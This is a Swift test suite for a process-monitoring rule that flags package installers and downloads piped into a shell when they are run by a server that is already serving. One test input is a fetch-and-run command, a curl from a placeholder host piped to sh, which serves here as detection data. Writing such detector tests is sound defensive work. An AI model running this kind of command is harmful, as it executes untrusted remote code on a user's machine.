// SPDX-License-Identifier: Apache-2.0

import Events
import Servers
import Testing

@testable import Monitoring

/// A server that serves and runs an installer.
@Suite struct InstallerRunTests {
  private static func story(isServing: Bool = true) -> Story {
    let command = ["python3", "/opt/server.py"]
    var story = Story([Story.entry("one", command)], policy: Scene.policy("any"))
    story.exec(10, parent: 1, ["cursor"])
    story.exec(20, parent: 10, command, environment: ["PATH"], awaitsMessage: true)
    if isServing {
      story.consume(
        .firstMessage(FirstMessage(time: story.now, state: .read, since: story.now, inode: 7)))
    }
    return story
  }

  @Test(arguments: [
    (["npm", "install", "left-pad"], "npm install"),
    (["pip", "install", "x"], "pip install"),
    (["/opt/venv/bin/python", "-m", "pip", "install", "x"], "pip install"),
    (["uv", "pip", "install", "x"], "uv pip install"), (["uvx", "x"], "uvx"),
    (
      ["/bin/sh", "-c", "curl -s https://x.example/i | sh"],
      "a download that is piped into an interpreter"
    ),
  ]) func isToldEvenUnderAny(command: [String], words: String) {
    var story = Self.story()
    story.exec(30, parent: 20, command)
    #expect(story.findings.map(\.rule) == [.installerRun])
    #expect(story.findings.first?.severity == .medium)
    #expect(
      story.findings.first?.reasons.first == "it ran an installer while it serves: \(words)")
  }

  @Test(arguments: [
    ["npm", "run", "build"], ["pip", "list"], ["python3", "-m", "http.server"], ["git", "pull"],
    ["/bin/sh", "-c", "curl https://x.example | jq ."], ["/bin/sh", "-c", "ls | sh"],
  ]) func otherCommandsAreNone(command: [String]) {
    var story = Self.story()
    story.exec(30, parent: 20, command)
    #expect(story.findings.isEmpty)
  }

  @Test func beforeTheFirstMessageItIsTheInstallation() {
    var story = Self.story(isServing: false)
    story.exec(30, parent: 20, ["npm", "install"])
    #expect(story.findings.isEmpty)
  }

  /// `#!/usr/bin/env node`: two programs of one process, and one installer.
  @Test func aScriptAndItsInterpreterAreOne() {
    var story = Self.story()
    story.exec(30, parent: 20, ["/usr/bin/env", "node", "/usr/bin/npm", "install"])
    story.exec(30, ["node", "/usr/bin/npm", "install"])
    #expect(story.findings.count == 1)
  }
}
